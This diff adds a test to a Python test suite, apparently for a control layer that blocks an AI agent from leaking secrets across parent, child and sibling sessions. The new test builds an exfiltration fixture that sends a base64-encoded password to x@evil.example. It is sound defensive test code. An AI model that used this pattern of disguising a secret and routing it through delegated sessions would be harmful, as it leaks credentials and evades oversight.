@@ -2,6 +2,7 @@
 
 import base64
 import json
+from dataclasses import replace
 from typing import Any
 from urllib.parse import quote
 
@@ -222,3 +223,18 @@ def test_ordinary_numbers_stay_numbers() -> None:
     made = passage({"note": numbers}, obligations={"redact": "secret"})
     assert run(controls(), made) == ""
     assert made.acting[1].arguments == {"note": numbers}
+
+
+def test_a_secret_does_not_leave_by_way_of_a_lent_session() -> None:
+    """R-K2, R-P2: an agent lends to itself or another: what one of these sessions has seen, none of them lets out in any dress."""
+    parent = session("parent")
+    child = replace(session("child", agent="helper"), depth=1, above=(parent,))
+    dressed = {"to": "x@evil.example", "body": base64.b64encode(PASSWORD.encode()).decode()}
+    for reader, sender in ((parent, child), (child, parent), (child, replace(child, id="sibling"))):
+        set_ = controls()
+        seen(set_, reader)
+        assert run(set_, passage(dressed, of=sender)) == "content_rejected"
+        set_.drop(child.id)
+        assert run(set_, passage(dressed, of=sender)) == "content_rejected"
+        set_.drop(parent.id)
+        assert run(set_, passage(dressed, of=sender)) == ""
